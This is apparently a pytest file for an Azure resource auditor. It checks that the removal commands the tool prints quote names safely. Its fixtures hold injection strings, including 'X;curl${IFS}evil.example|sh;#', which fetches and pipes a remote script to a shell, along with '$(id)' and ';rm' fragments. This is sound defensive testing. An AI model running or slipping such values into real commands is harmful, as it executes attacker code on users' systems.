"""Every command a remove text prints quotes what it inserts and names the exact resource."""

from __future__ import annotations

import shlex

import pytest

from auditor.graph.removal import (
    rebind_certificate,
    remove_certificate,
    remove_custom_domain,
    remove_dns_record,
    remove_reference,
)
from auditor.graph.shell_command import command, printed_command
from auditor.model import Certificate, CertificateStore, DnsRecord, Reference, ReferenceKind, ServiceKind
from auditor.model.certificate import Renewal

EVIL = "X;curl${IFS}evil.example|sh;#"
RG = "rg web$(id)"
SUB = "/subscriptions/s/resourceGroups/" + RG
SITE = SUB + f"/providers/Microsoft.Web/sites/signin'{EVIL}/slots/st`g"


def test_the_issue_example_stays_one_argument() -> None:
    text = remove_reference(Reference(ReferenceKind.APP_SETTING, "login.contoso.com", SITE, f"appsettings.{EVIL}"))
    assert printed_command(text) == ["az", "webapp", "config", "appsettings", "delete", "-g", RG, "-n",
                                     f"signin'{EVIL}", "--slot", "st`g", "--setting-names", EVIL]
    assert f"--setting-names {EVIL}" not in text


@pytest.mark.parametrize(("text", "argv"), [
    (remove_reference(Reference(ReferenceKind.CONNECTION_STRING, "db.contoso.com", SITE, "connectionstrings.a b")),
     ["az", "webapp", "config", "connection-string", "delete", "-g", RG, "-n", f"signin'{EVIL}", "--slot", "st`g",
      "--setting-names", "a b"]),
    (remove_reference(Reference(ReferenceKind.CORS_ORIGIN, "app.contoso.com", SITE, "cors[0]")),
     ["az", "webapp", "cors", "remove", "-g", RG, "-n", f"signin'{EVIL}", "--slot", "st`g",
      "--allowed-origins", "https://app.contoso.com"]),
    (remove_reference(Reference(ReferenceKind.FRONTDOOR_ORIGIN, "o.contoso.com",
                                SUB + "/providers/Microsoft.Cdn/profiles/p;1/originGroups/g&2/origins/o|3", "x")),
     ["az", "afd", "origin", "delete", "-g", RG, "--profile-name", "p;1", "--origin-group-name", "g&2",
      "--origin-name", "o|3"]),
    (remove_reference(Reference(ReferenceKind.TRAFFIC_MANAGER_ENDPOINT, "t.contoso.com",
                                SUB + "/providers/Microsoft.Network/trafficManagerProfiles/tm>x/externalEndpoints/e*",
                                "x")),
     ["az", "network", "traffic-manager", "endpoint", "delete", "-g", RG, "--profile-name", "tm>x", "-n", "e*",
      "--type", "externalEndpoints"]),
    (remove_reference(Reference(ReferenceKind.RESOURCE_PROPERTY, "t.contoso.com", "/weird id;rm", "properties.x")),
     ["az", "resource", "show", "--ids", "/weird id;rm"]),
    (remove_custom_domain("www.contoso.com", ServiceKind.FRONT_DOOR,
                          SUB + "/providers/Microsoft.Cdn/profiles/fd$x/customDomains/www-contoso"),
     ["az", "afd", "custom-domain", "delete", "-g", RG, "--profile-name", "fd$x", "--custom-domain-name",
      "www-contoso"]),
    (remove_custom_domain("www.contoso.com", ServiceKind.FRONT_DOOR, "/not/an/arm;id"),
     ["az", "afd", "custom-domain", "delete", "--ids", "/not/an/arm;id"]),
    (remove_custom_domain("w;w.contoso.com", ServiceKind.APP_SERVICE, SITE),
     ["az", "webapp", "config", "hostname", "delete", "-g", RG, "--webapp-name", f"signin'{EVIL}", "--slot", "st`g",
      "--hostname", "w;w.contoso.com"]),
    (remove_custom_domain("c.contoso.com", ServiceKind.CDN,
                          SUB + "/providers/Microsoft.Cdn/profiles/p/endpoints/e/customDomains/c\nd"),
     ["az", "cdn", "custom-domain", "delete", "-g", RG, "--profile-name", "p", "--endpoint-name", "e", "-n", "c\nd"]),
    (rebind_certificate("a.contoso.com", ServiceKind.APP_SERVICE, SITE),
     ["az", "webapp", "config", "ssl", "bind", "-g", RG, "-n", f"signin'{EVIL}", "--slot", "st`g",
      "--certificate-thumbprint", "<new-thumbprint>", "--ssl-type", "SNI"]),
    (remove_dns_record(DnsRecord("contoso.com", "w$(x).contoso.com", "CNAME", ("t.",),
                                 SUB + "/providers/Microsoft.Network/dnszones/contoso.com/CNAME/w$(x)")),
     ["az", "network", "dns", "record-set", "cname", "delete", "-g", RG, "-z", "contoso.com", "-n", "w$(x)", "--yes"]),
    (remove_dns_record(DnsRecord("contoso.com", "w.contoso.com", "X;rm", (), "/id;x")),
     ["az", "resource", "delete", "--ids", "/id;x"]),
])
def test_each_command_parses_into_the_intended_argv(text: str, argv: list[str]) -> None:
    assert printed_command(text) == argv


def _cert(store: CertificateStore, key: str, resource_id: str, thumbprint: str | None) -> Certificate:
    return Certificate(key=key, store=store, name="n;x", resource_id=resource_id, thumbprint=thumbprint,
                       subject=None, names=(), not_before=None, not_after=None, issuer=None,
                       renewal=Renewal.UNKNOWN)


def test_certificate_commands() -> None:
    kv = _cert(CertificateStore.KEY_VAULT, "kv|1/cert&2", SUB + "/providers/Microsoft.KeyVault/vaults/kv|1", None)
    assert printed_command(remove_certificate(kv)) == ["az", "keyvault", "certificate", "delete", "--vault-name",
                                                       "kv|1", "-n", "cert&2"]
    web = _cert(CertificateStore.APP_SERVICE, "k", SUB + "/providers/Microsoft.Web/certificates/c", "AB;CD")
    assert printed_command(remove_certificate(web)) == ["az", "webapp", "config", "ssl", "delete", "-g", RG,
                                                        "--certificate-thumbprint", "AB;CD"]
    fd = _cert(CertificateStore.FRONT_DOOR_SECRET, "k", SUB + "/providers/Microsoft.Cdn/profiles/p/secrets/s`x", None)
    assert printed_command(remove_certificate(fd)) == ["az", "afd", "secret", "delete", "-g", RG, "--profile-name",
                                                       "p", "--secret-name", "s`x"]


def test_portal_paths_print_no_command() -> None:
    text = remove_reference(Reference(ReferenceKind.GATEWAY_BACKEND, "b.contoso.com", SUB, "x"))
    assert printed_command(text) is None
    assert shlex.split(command("a b", "c")) == ["a b", "c"]
